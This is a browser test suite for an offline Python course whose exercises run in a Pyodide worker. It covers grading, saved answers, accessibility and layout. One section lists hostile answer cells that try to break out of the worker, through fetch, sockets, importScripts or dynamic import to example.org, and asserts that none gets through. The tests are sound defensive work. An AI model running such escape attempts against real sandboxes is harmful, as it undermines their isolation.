"""The course runs in the page: in Chromium, from disk without a network, and from a plain server."""

import json
import re
import zipfile

import pytest

import make
from companion.course import browser, learner
from companion.course.grading import folder
from companion.course.grading.report import Report
from companion.course.grading.spec import entries
from tests.browsing import Watch, opened, served
from tests.grading.bank import samples
from tests.grading.judging import in_notebook
from tests.grading.test_hostile import ATTACKS
from tests.grading.workbooks import WORKBOOKS, cells, fill, solutions, stubs, text
from tests.live.test_axe import violations

BOOK = "book/exercises/02_activation_functions.html"
LONG = 240_000  # milliseconds: a first start on a machine that has other work
RIGHT = "def relu(z):\n    return np.maximum(z, 0)\n"
WRONG = "def relu(z):\n    return np.abs(z)\n"
# What a worker says to one order, and nothing else: {"do": ...} -> [result, status, html].
ASK = """order => new Promise(done => {
    let told = [null, null];
    coursePage.python.ask(order, (kind, text) => { if (kind === "verdict") told = JSON.parse(text).slice(0, 2); })
        .then(result => done([result, ...told])); })"""
KEPT = "name => JSON.parse(localStorage.getItem('how-machines-learn/answer/' + name))"


@pytest.fixture(scope="module")
def started_page(browser, built):
    """One page whose Python is started once for many questions."""
    with opened(browser, built / "book" / "notation.html") as page:
        page.set_default_timeout(LONG)
        page.evaluate(ASK, {"do": "run", "cells": [["start", "import numpy as np", False]]})
        yield page
        assert page.watch.requests == []


@pytest.fixture
def workbook(open_page, built):
    page = open_page(built / BOOK)
    page.set_default_timeout(LONG)
    return page


def answer(page, source, name="relu"):
    """Write an answer into the page's editor and check it; the verdict's text."""
    put(page, source, name)
    return checked(page, name)


def put(page, source, name="relu"):
    page.evaluate(
        """async ([name, source]) => {
        const cell = coursePage.cells.find(cell => cell.name === name);
        await cell.edit();
        cell.write(source); }""",
        [name, source],
    )


def checked(page, name="relu"):
    page.evaluate("name => coursePage.cells.find(cell => cell.name === name).check()", name)
    return page.evaluate(
        "name => coursePage.cells.find(cell => cell.name === name).judge.place.innerText", name
    )


# What the NumPy of the page, 2.0, says otherwise than a newer one.
SAME = {"only length-1 arrays": "only 0-dimensional arrays"}


def words(html):
    """The words of a piece of HTML, in one line."""
    plain = re.sub(r"<[^>]+>", " ", html).replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
    for here, there in SAME.items():
        plain = plain.replace(there, here)
    return " ".join(plain.split())


# ---- nothing before the first click, everything after it


def test_the_site_stays_small(built, tmp_path):
    files = [path for path in built.rglob("*") if path.is_file()]
    assert sum(path.stat().st_size for path in files) < 40e6
    with zipfile.ZipFile(tmp_path / "site.zip", "w", zipfile.ZIP_DEFLATED, compresslevel=6) as pack:
        for path in files:
            pack.write(path, path.relative_to(built))
    assert (tmp_path / "site.zip").stat().st_size < 20e6


def scripts(page):
    return page.evaluate("[...document.scripts].map(one => one.src.split('/_static/')[1]).filter(Boolean)")


def test_nothing_is_loaded_before_the_first_click(workbook, built):
    loaded = scripts(workbook)
    assert "page.js" in " ".join(loaded)
    assert not [name for name in loaded if name.startswith(("python/", "editor", "workbooks", "keep"))]
    assert workbook.evaluate("document.querySelectorAll('.course-editor').length") == 0
    static = built / "_static"
    style = make.ROOT / "book" / "_ext" / "static" / "page.css"      # a part of the site's one style
    assert (static / "exercises.js").stat().st_size + style.stat().st_size < 10_000
    assert sum((static / name).stat().st_size for name in ("page.js", "python.js")) < 25_000


def test_every_exercise_has_its_place_in_the_book(workbook, built):
    places = workbook.evaluate("coursePage.course.exercises.map(one => one.place)")
    assert len(places) == 48
    for place in places:
        page, anchor = place.split("#")
        assert f'id="{anchor}"' in (built / "book" / page).read_text(encoding="utf-8"), place


def test_a_wrong_answer_gets_its_idea_and_a_right_one_passes(workbook):
    told = answer(workbook, WRONG)
    assert "✗ 2.2 relu: not right yet. You return |z|." in told and "[absolute-value]" in told
    assert "✓ 2.2 relu: right. All 5 checks pass." in answer(workbook, RIGHT)
    assert workbook.locator(".course-progress").inner_text().startswith("Your work: 1 of 20 on the path")
    assert "Next: 1.1 A neuron" in workbook.locator(".course-progress").inner_text()
    assert workbook.watch.requests == [] and workbook.watch.errors == []


def test_it_works_from_a_plain_server(browser, built):
    with served(built) as address:
        context = browser.new_context()
        page = context.new_page()
        page.watch = Watch(page)
        page.goto(address + BOOK)
        page.set_default_timeout(LONG)
        assert "2.2 relu: right" in answer(page, RIGHT)
        assert all(request.startswith(address) for request in page.watch.requests) and page.watch.errors == []
        context.close()


def test_an_endless_loop_is_stopped_and_the_page_lives(workbook):
    stubborn = (
        "def relu(z):\n    while True:\n        try:\n            z = z\n            while True: pass\n"
        "        except BaseException:\n            pass\n"
    )
    told = answer(workbook, stubborn)
    assert "2.2 relu: stopped. It was still running after 5 seconds" in told
    assert "2.2 relu: right" in answer(workbook, RIGHT)
    assert [one["status"] for one in workbook.evaluate(KEPT, "relu")["versions"]] == ["stopped", "passed"]


def test_stop_ends_a_cell_at_once(workbook):
    put(workbook, "while True: pass")
    workbook.evaluate("void coursePage.cells.find(cell => cell.name === 'relu').check()")
    workbook.locator(".course-panel", has_text="Python is running").get_by_role("button", name="Stop").click()
    workbook.wait_for_function("document.querySelector('.course-verdict')?.innerText.includes('Stopped')")
    assert "2.2 relu: right" in answer(workbook, RIGHT)


# ---- what is kept


def test_answers_are_there_after_a_reload_and_on_another_page(workbook, built):
    answer(workbook, WRONG)
    answer(workbook, RIGHT)
    put(workbook, "def sigmoid(z):\n    return 1\n", "sigmoid")  # written, not checked
    workbook.wait_for_function("localStorage.getItem('how-machines-learn/answer/sigmoid')")
    workbook.goto((built / "book/exercises/03_forward_propagation.html").as_uri())
    assert "1 of 20" in workbook.locator(".course-progress").inner_text()
    workbook.goto((built / BOOK).as_uri())
    assert workbook.locator("pre.course-answer", has_text="def relu").first.inner_text().strip() == RIGHT.strip()
    assert workbook.locator(".course-verdict").inner_text().startswith("✓ 2.2 relu: right, ")  # of the last visit
    sigmoid = workbook.locator("pre.course-answer", has_text="def sigmoid").first.inner_text()
    assert sigmoid.startswith("def sigmoid(z):\n    return 1")
    assert [one["text"] for one in workbook.evaluate(KEPT, "relu")["versions"]] == [WRONG, RIGHT]


def test_a_page_that_the_reader_goes_back_to_knows_what_was_solved_meanwhile(workbook):
    keep(workbook, {"relu": RIGHT}, "passed")
    workbook.evaluate("dispatchEvent(new Event('pageshow'))")         # as the browser brings a kept page back
    assert workbook.locator(".course-progress").inner_text().startswith("Your work: 1 of 20")


def test_an_earlier_answer_is_used_by_a_later_exercise(workbook, built):
    keep(workbook, {"dense": solutions()["dense"], "relu": RIGHT}, "passed")
    workbook.goto((built / "book/exercises/03_forward_propagation.html").as_uri())
    assert "3.2 forward: right" in answer(workbook, solutions()["forward"], "forward")
    keep(workbook, {"relu": WRONG}, "not yet")
    workbook.goto((built / "book/exercises/03_forward_propagation.html").as_uri())
    assert "3.2 forward: right" in answer(workbook, solutions()["forward"], "forward")


# What some code prints in the page's Python.
SAYS = """source => new Promise(done => {
    let told = "";
    coursePage.python.ask({ do: "run", cells: [["look", source, false]] },
        (kind, text) => { if (kind === "stdout") told += text; }).then(() => done(told.trim())); })"""
LAST = "book/exercises/07_training_loop.html"


def test_an_exercise_that_was_left_out_is_lent_to_what_builds_on_it(workbook, built):
    keep(workbook, {name: source for name, source in solutions().items() if name != "dense"}, "passed")
    workbook.goto((built / LAST).as_uri())
    assert "7.1 evaluate: right" in answer(workbook, solutions()["evaluate"], "evaluate")


def test_an_answer_that_draws_holds_none_of_the_others_back(workbook, built):
    keep(workbook, {"neuron": "import matplotlib.pyplot as plt\n" + solutions()["neuron"],
                    "dense": solutions()["dense"]}, "passed")
    workbook.goto((built / LAST).as_uri())
    assert workbook.evaluate(SAYS, "print('neuron' in globals(), 'dense' in globals())") == "True True"


def test_what_another_page_answers_meanwhile_is_used(workbook, built):
    workbook.goto((built / LAST).as_uri())
    assert workbook.evaluate(SAYS, "print('dense' in globals())") == "False"
    other = workbook.context.new_page()
    other.goto((built / BOOK).as_uri())
    keep(other, {"dense": solutions()["dense"]}, "passed")
    workbook.wait_for_function("localStorage.getItem('how-machines-learn/answer/dense')")  # the browser takes its time
    assert workbook.evaluate(SAYS, "print('dense' in globals())") == "True"


def test_a_verdict_that_was_given_is_not_taken_back_when_time_is_up(workbook):
    """The clock may ring between the verdict and the end of its order."""
    workbook.evaluate("""() => { const { python } = coursePage;
        python.ask = async (order, hear) => {
            hear("limit", JSON.stringify([0, "<p>late</p>", "<p>gone</p>"]));
            hear("verdict", JSON.stringify(["passed", "<p>right</p>", ""]));
            await new Promise(done => setTimeout(done, 50));
            return "done"; };
        python.stop = () => {}; }""")
    assert checked(workbook).startswith("right")


def keep(page, answers, status):
    page.evaluate(
        """([answers, status]) => { for (const [name, text] of Object.entries(answers))
        localStorage.setItem("how-machines-learn/answer/" + name,
                             JSON.stringify({ draft: null, versions: [{ at: 1, text, status }] })); }""",
        [answers, status],
    )


def test_take_home_and_bring_in_lose_nothing(open_page, built, tmp_path):
    page = open_page(built / BOOK)
    assert "not yet" in page.locator(".course-progress").inner_text()
    keep(page, solutions(), "passed")
    with page.expect_download() as download:
        page.get_by_role("button", name="Take home").click()
    download.value.save_as(tmp_path / "home.zip")
    assert "Last taken home: not yet" not in page.locator(".course-progress").inner_text()
    with zipfile.ZipFile(tmp_path / "home.zip") as home:
        assert home.testzip() is None
        home.extractall(tmp_path / "home")
    # The same files that `companion start` makes: it has nothing to bring into them.
    told = list(learner.start(tmp_path / "home"))
    assert told and all(line.endswith("cells kept") or line.endswith("up to date") for line in told)
    assert answers_of(tmp_path / "home") == solutions()
    # A note and a cell of the reader's own, as Jupyter leaves them, come back too.
    path = tmp_path / "home" / WORKBOOKS[1].name
    notebook = json.loads(path.read_text(encoding="utf-8"))
    notebook["cells"].append(
        {"cell_type": "markdown", "id": "mine", "metadata": {}, "source": ["my own note"]}
    )
    path.write_text(json.dumps(notebook, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    other = open_page(built / BOOK)
    other.locator("input[type=file]").set_input_files(
        [str(one) for one in sorted((tmp_path / "home").glob("*.ipynb"))]
    )
    other.locator(".course-panel", has_text="7 workbooks read, 48 answers brought in, 48 of them right.").wait_for(timeout=LONG)
    assert other.locator(".course-progress").inner_text().startswith("Your work: 20 of 20 on the path")
    assert other.locator("pre.course-answer", has_text="def relu").first.inner_text().strip() == solutions()["relu"].strip()
    again = other.evaluate("coursePage.workbooks()")
    assert again == {
        one.name: one.read_text(encoding="utf-8") for one in sorted((tmp_path / "home").glob("*.ipynb"))
    }


HELPER = ["def larger(z):\n", "    return np.maximum(z, 0)"]
NEEDY = "def relu(z):\n    return larger(z)\n"


def test_own_cells_come_with_a_workbook_and_are_run_where_an_answer_needs_them(workbook, built, tmp_path):
    path = fill(tmp_path / "work", {"relu": NEEDY}) / WORKBOOKS[1].name
    notebook = json.loads(path.read_text(encoding="utf-8"))
    at = next(k for k, cell in enumerate(notebook["cells"]) if text(cell) == NEEDY)
    own = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": HELPER}
    unused = own | {"source": "raise SystemExit"}
    note = {"cell_type": "markdown", "metadata": {}, "source": "relu is a *gate*"}
    theirs = note | {"id": "0123456789ab", "source": "what the course said in another edition"}
    notebook["cells"][at + 1:at + 1] = [note, own | {"id": "mine"}, unused | {"id": "unused"}, theirs]
    path.write_text(json.dumps(notebook), encoding="utf-8")
    workbook.locator("input[type=file]").set_input_files(str(path))
    box = workbook.locator(".course-own")
    assert box.locator("summary").inner_text() == "Your own cells (3)" and not box.locator("pre").first.is_visible()
    box.locator("summary").click()
    assert box.locator("pre").all_inner_texts() == ["relu is a *gate*", "".join(HELPER), "raise SystemExit"]
    workbook.locator(".course-panel", has_text="1 workbook read, 1 answer brought in, 1 of them right.").wait_for()
    assert "2.2 relu: right" in workbook.locator(".course-verdict").inner_text()
    assert folder.grade(path, only=["relu"]).verdicts["relu"].ok                     # as in the terminal
    workbook.goto((built / "book/exercises/03_forward_propagation.html").as_uri())
    assert "3.2 forward: right" in answer(workbook, solutions()["forward"], "forward")
    source = "print(relu(np.array([-1.0, 2.0])))"
    assert workbook.evaluate(SAYS, source) == "[0. 2.]"
    workbook.goto((built / BOOK).as_uri())
    assert workbook.locator(".course-own summary").count() == 1


def answers_of(folder):
    """{function: source} of the exercise cells of some workbooks."""
    found = [
        text(cell)
        for path in sorted(folder.glob("*.ipynb"))
        for cell in cells(path)
        if "exercise" in cell["metadata"].get("tags", ())
    ]
    return {re.search(r"^def (\w+)", source, re.M).group(1): source for source in found}


# ---- who uses no mouse, or reads by ear, on a phone, in the dark


def test_keyboard_alone(workbook):
    workbook.locator("pre.course-answer", has_text="def relu").first.focus()
    workbook.wait_for_selector(".cm-editor.cm-focused")
    workbook.keyboard.press("Control+a")
    workbook.keyboard.type("def relu(z):\nreturn np.maximum(z, 0)")
    workbook.keyboard.press("Control+Enter")
    workbook.wait_for_selector(".course-verdict[data-status=passed]")
    workbook.keyboard.press("Escape")
    workbook.keyboard.press("Tab")
    assert workbook.evaluate("document.activeElement.textContent") == "Check"
    workbook.locator(".course-verdict").first.evaluate("place => { place.remove(); }")
    workbook.keyboard.press("Enter")
    workbook.wait_for_selector(".course-verdict[data-status=passed]")


@pytest.mark.parametrize("options", [{}, {"dark": True}, {"width": 390}], ids=["light", "dark", "phone"])
def test_axe_finds_nothing(open_page, built, options):
    page = open_page(built / BOOK, **options)
    page.set_default_timeout(LONG)
    put(page, WRONG)
    page.evaluate("""() => { const { judge } = coursePage.cells.find(cell => cell.name === "relu");
        judge.show("html", "<p>✗ <strong>2.2</strong> not right yet.</p>"); judge.place.classList.add("course-verdict");
        coursePage.tell("Loading Python: 5.0 of 12.0 MB, from this book.", { loaded: 0.4, busy: true }); }""")
    ours = [one for one in violations(page) if "course" in one[2] or "cm-" in one[2]]
    assert ours == []
    if "width" in options:
        assert page.evaluate("document.scrollingElement.scrollWidth <= document.scrollingElement.clientWidth")


PLACES = "[...document.querySelectorAll('main h2, main .cell_input')].map(e => Math.round(e.getBoundingClientRect().top))"


# A window of 1280 pixels has room for 640 at a zoom of 200 %.
WIDTHS = pytest.mark.parametrize("width", [1280, 640, 390], ids=["desk", "200 % zoom", "phone"])


@WIDTHS
def test_nothing_moves_when_the_editor_comes_and_python_starts(open_page, built, width):
    page = open_page(built / BOOK, width=width)
    page.set_default_timeout(LONG)
    before = page.evaluate(PLACES)
    put(page, page.evaluate("coursePage.cells.find(cell => cell.name === 'relu').text"))
    assert page.evaluate(PLACES) == pytest.approx(before, abs=1)
    page.evaluate("""() => { window.shifts = 0; new PerformanceObserver(list => list.getEntries()
        .forEach(one => { window.shifts += one.value; })).observe({ type: "layout-shift" }); }""")
    page.evaluate(ASK, {"do": "run", "cells": [["a", "1", False]]})
    assert page.evaluate(PLACES) == pytest.approx(before, abs=1) and page.evaluate("window.shifts") < 0.01


# What is out of the window, or lies below something else, when the reader has scrolled to it.
LOST = """() => [...document.querySelectorAll(
    "main :is(.course-bar, .course-verdict, .course-editor, .course-progress) :is(button, select, p, a, .cm-content)")]
    .filter(e => e.checkVisibility()).flatMap(e => {
        e.scrollIntoView({ block: "center" });
        const { left, right, top, height, width } = e.getBoundingClientRect();
        const on = document.elementFromPoint(left + width / 2, top + height / 2);
        const fits = left >= 0 && right <= document.documentElement.clientWidth && e.scrollWidth <= e.clientWidth + 1;
        return fits && (e.contains(on) || on?.contains(e)) ? [] : [`${e.tagName} ${e.textContent.slice(0, 40)} ${left} ${right}`];
    })"""


@WIDTHS
def test_nothing_of_a_workbook_is_lost(open_page, built, width):
    page = open_page(built / BOOK, width=width)
    page.set_default_timeout(LONG)
    answer(page, WRONG)
    answer(page, WRONG.replace("abs", "negative"))              # a second one: now there are versions
    page.evaluate("coursePage.tell('')")
    assert page.evaluate("document.scrollingElement.scrollWidth <= document.scrollingElement.clientWidth")
    assert page.locator(".course-bar select:visible").count() == 1
    assert page.evaluate(LOST) == []
    page.evaluate("coursePage.tell('Loading Python: 5.0 of 12.0 MB, from this book.', { loaded: 0.4, busy: true })")
    box = page.locator(".course-panel").bounding_box()
    assert box["x"] >= 0 and box["x"] + box["width"] <= width


# ---- what cannot be: one clear line for each


@pytest.mark.parametrize(
    "spoil, line",
    [
        ("window.WebAssembly = undefined", "it has no WebAssembly"),
        (
            "coursePage.course.python = undefined; coursePage.course.missing = ['pyodide.asm.wasm']",
            "built without Python for the page (missing: pyodide.asm.wasm)",
        ),
        ("window.Worker = function () { throw new Error('no') }; 0", "python -m http.server"),
    ],
)
def test_what_is_missing_is_said_in_one_line(workbook, spoil, line):
    workbook.evaluate(spoil)
    workbook.evaluate("void coursePage.cells.find(cell => cell.name === 'relu').check()")
    workbook.wait_for_function(
        "line => document.querySelector('.course-panel').innerText.includes(line)", arg=line
    )


@pytest.mark.parametrize(
    "error, line", [("QuotaExceededError", "store is full"), ("SecurityError", "keeps nothing")]
)
def test_a_store_that_takes_nothing_is_said_in_one_line(workbook, error, line):
    workbook.evaluate(
        "name => { Storage.prototype.setItem = () => { throw new DOMException('no', name); }; }", error
    )
    put(workbook, RIGHT)
    workbook.wait_for_function(
        "line => document.querySelector('.course-panel').innerText.includes(line)", arg=line
    )
    home = json.loads(workbook.evaluate("coursePage.workbooks()")[WORKBOOKS[1].name])
    assert [text(cell) for cell in home["cells"] if text(cell).startswith("def relu")] == [RIGHT]


def test_a_damaged_file_is_said_in_one_line(workbook):
    workbook.evaluate("""async () => { coursePage.cells[0].edit(); self.COURSE_FILES = {};
        Object.defineProperty(COURSE_FILES, "pyodide.js", { get: () => "H4sIAAAA", set() {} }); }""")
    workbook.evaluate("void coursePage.cells.find(cell => cell.name === 'relu').check()")
    workbook.wait_for_function(
        "document.querySelector('.course-panel').innerText.includes('The file pyodide.js of this book is damaged')"
    )


# ---- chapters


def test_a_chapters_cell_is_edited_and_run_in_place(open_page, built):
    page = open_page(built / "book" / "before_you_start.html")
    page.set_default_timeout(LONG)
    number = page.evaluate("coursePage.cells.findIndex(cell => cell.shown && !cell.onlyShows)")
    page.evaluate(
        """async number => { const cell = coursePage.cells[number]; await cell.edit();
        cell.write("import matplotlib.pyplot as plt\\nfrom companion import plots\\nplt.plot([1, 2])\\n"
            + "print(6 * 7)\\nplots.Table(('what', 'n'), [('six by nine', 54)])"); await cell.run(); }""",
        number,
    )
    place = page.locator(".course-output").last
    assert "42" in place.inner_text() and place.locator("img").get_attribute("alt")
    assert place.locator("table td").all_inner_texts() == ["six by nine", "54"]
    page.evaluate("number => coursePage.cells[number].back()", number)
    assert page.evaluate(
        "number => coursePage.cells[number].shown.hidden === false"
        " && coursePage.cells[number].text === coursePage.cells[number].original",
        number,
    )
    assert page.watch.errors == [] and page.watch.requests == []


def test_running_from_the_top_ends_what_runs(open_page, built):
    page = open_page(built / "book" / "before_you_start.html")
    page.set_default_timeout(LONG)
    page.evaluate("""void (async () => { const [first, second] = coursePage.cells;
        await first.edit(); await second.edit();
        first.write("x = 41\\nwhile True: pass");
        window.told = [first.run()]; })()""")
    page.locator(".course-panel", has_text="Python is running").wait_for()
    page.evaluate("""() => { const [first, second] = coursePage.cells;
        first.write("x = 41");
        second.write("print(x + 1)");
        window.told.push(second.run(true)); }""")
    assert page.evaluate("Promise.all(window.told)") == ["stopped", "done"]
    assert page.evaluate("coursePage.cells[1].place.innerText.trim()") == "42"


# ---- the graders say what they say elsewhere

BANK = [
    sample for sample in samples() if sample.name not in ("missing-import", "cell-raises", "syntax-error")
]
UNLIKE = {("one_hot", "counts-of-the-classes"): "np.bincount takes no int64 where an index has 32 bits"}
CLEAN = (
    "for _n in [n for n in globals() if n[0] != '_' and n not in ('np', 'get_ipython')]: del globals()[_n]"
)


def judged(page, function, source):
    page.evaluate(ASK, {"do": "run", "cells": [["clean", CLEAN, False]]})
    return page.evaluate(
        ASK, {"do": "check", "function": function, "key": f"answer {function}", "source": source}
    )


def agree(page, samples):
    """Those of some answers on which the page and the notebook say different words."""
    for sample in samples:
        _, status, html = judged(page, sample.function, sample.source)
        verdict = in_notebook(sample.function, sample.source)
        want = words(browser.markdown(f"{Report(verdict).sentence()} [{verdict.name}]"))
        told = words(html or "")
        if status != verdict.status or any(
            part not in told
            for part in (want.rsplit(" [", 1)[0], f"[{verdict.name}]" if verdict.name else "")
        ):
            yield sample.function, sample.kind, sample.name, told[:300], want[:300]


WRONG_ONES = [
    sample
    for sample in BANK
    if sample.kind == "wrong"
    and (sample.function, sample.name) not in UNLIKE
    and "sklearn" not in sample.source
    and sample.name != "too-slow"
]


def test_sixty_wrong_answers_get_the_words_of_the_notebook(started_page):
    assert list(agree(started_page, WRONG_ONES[:: len(WRONG_ONES) // 60])) == []


@pytest.mark.slow
def test_every_wrong_answer_gets_the_words_of_the_notebook(started_page):
    assert list(agree(started_page, WRONG_ONES)) == []


MISSING = "from nothing_of_this_name import maximum\n\n\ndef relu(z):\n    return maximum(z, 0)\n"


@pytest.mark.parametrize(
    "name, source",
    [
        ("missing-import", MISSING),
        ("cell-raises", "1 / 0\n" + RIGHT),
        ("syntax-error", "def relu(z) return z"),
    ],
)
def test_a_cell_that_does_not_run_is_named_as_in_the_terminal(started_page, name, source):
    _, status, html = judged(started_page, "relu", source)
    assert f"[{name}]" in words(html) and status in ("error", "not yet")


def test_every_solution_passes_and_every_stub_is_not_attempted(started_page):
    told = {name: judged(started_page, name, source)[1] for name, source in solutions().items()}
    assert set(told) == {entry.function for entry in entries().values() if entry.chapter}
    assert {name for name, status in told.items() if status != "passed"} == set()
    told = {
        name: judged(started_page, name, source)[1]
        for path in WORKBOOKS
        for name, source in stubs(path).items()
    }
    assert set(told.values()) == {"not attempted"} and len(told) == 48


# ---- who attacks the page has only himself to lose

DOORS = {
    "fetch": "def relu(z):\n    import js\n    js.fetch('https://example.org/')\n",
    "an older request": "def relu(z):\n    import js\n    js.XMLHttpRequest.new().open('GET', 'https://example.org/')\n",
    "a socket": "def relu(z):\n    import js\n    js.WebSocket.new('wss://example.org/')\n",
    "a prototype": "def relu(z):\n    import js\n    js.Object.getPrototypeOf(js.self).fetch('https://example.org/')\n",
    "another script": "def relu(z):\n    import js\n    js.importScripts('https://example.org/x.js')\n",
    "a module": "def relu(z):\n    import js\n    js.eval(\"import('https://example.org/x.js')\")\n",
    "the end of the worker": "def relu(z):\n    import js\n    js.close()\n    while True: pass\n",
    "its messages": "def relu(z):\n    import js\n    js.postMessage('nonsense')\n    return z\n",
}
QUICK = ("leaves at once", "recursion", "one huge array", "a result without end", "a message of a megabyte")


def survives(page, attacks):
    """The attacks after which the page does not judge a right answer as ever."""
    for name, source in attacks.items():
        answer(page, source)
        if not any(
            "2.2 relu: right" in answer(page, RIGHT) for _ in range(2)
        ):  # once it may have to start anew
            yield name
    assert page.watch.requests == []
    assert {key.split("/")[0] for key in page.evaluate("Object.keys(localStorage)")} <= {
        "how-machines-learn",
        "theme",
        "mode",
    }


def test_the_doors_of_the_worker_are_closed(workbook):
    assert list(survives(workbook, DOORS)) == []


def test_the_page_survives_attacks(workbook):
    assert list(survives(workbook, {name: ATTACKS[name] for name in QUICK})) == []


@pytest.mark.slow
def test_the_page_survives_every_attack(workbook):
    assert list(survives(workbook, ATTACKS)) == []


# ---- whole roads


@pytest.mark.slow
@pytest.mark.parametrize(
    "chapter",
    [
        "01_neural_networks",
        "02_activation_functions",
        "03_forward_propagation",
        "04_loss_functions",
        "05_backpropagation",
        "06_gradient_descent",
        "07_training_loop",
    ],
)
def test_a_whole_chapter_runs_and_prints_what_the_book_prints(open_page, built, chapter):
    page = open_page(built / "book" / f"{chapter}.html")
    page.set_default_timeout(2 * LONG)
    page.evaluate("coursePage.cells.filter(cell => !cell.onlyShows).at(-1).run()")
    differ = page.evaluate("""coursePage.cells.filter(cell => cell.place && cell.shown && !cell.shown.querySelector(".live"))
        .map(cell => [cell.shown, cell.place].map(place => [...place.querySelectorAll(".stream pre, td")].map(e => e.innerText.trim())
            .join("\\n"))).filter(([book, here]) => book !== here && !/MNIST|torch/.test(book + here))""")
    assert differ == []
    failed = page.evaluate(
        "[...document.querySelectorAll('.course-output .traceback')].map(e => e.innerText)"
    )
    assert [text for text in failed if not re.search("could not fetch|No module named 'torch'", text)] == []


@pytest.mark.slow
def test_assemble_in_the_page_does_what_the_terminal_does(open_page, built, tmp_path):
    page = open_page(built / "book" / "07_training_loop.html")
    page.set_default_timeout(2 * LONG)
    keep(page, solutions(), "passed")
    page.get_by_role("button", name="Assemble here").click()
    with page.expect_download() as download:
        page.get_by_role("button", name="A page for a friend").click()
    download.value.save_as(tmp_path / "my_network.html")
    here = page.locator(".course-assemble pre").inner_text()
    from companion.course import assemble

    told = []
    assemble.assemble(tmp_path / "my_network", fill(tmp_path / "ex", solutions()), told.append)
    same = [line for line in told if "One epoch" not in line]
    assert [line for line in here.splitlines() if "One epoch" not in line][: len(same)] == [
        line.replace(f"{tmp_path}/", "") for line in same
    ]
    assert page.locator(".course-curve polyline").count() == 1
    assert (tmp_path / "my_network.html").stat().st_size < 1_000_000
    friend = open_page(tmp_path / "my_network.html")
    before = friend.locator(".live-says").inner_text()
    friend.get_by_role("gridcell").nth(30).click()
    friend.wait_for_function(
        "before => document.querySelector('.live-says').innerText !== before", arg=before
    )
    assert friend.watch.errors == [] and friend.watch.requests == []
    assert "def forward" in friend.locator("main").inner_html()
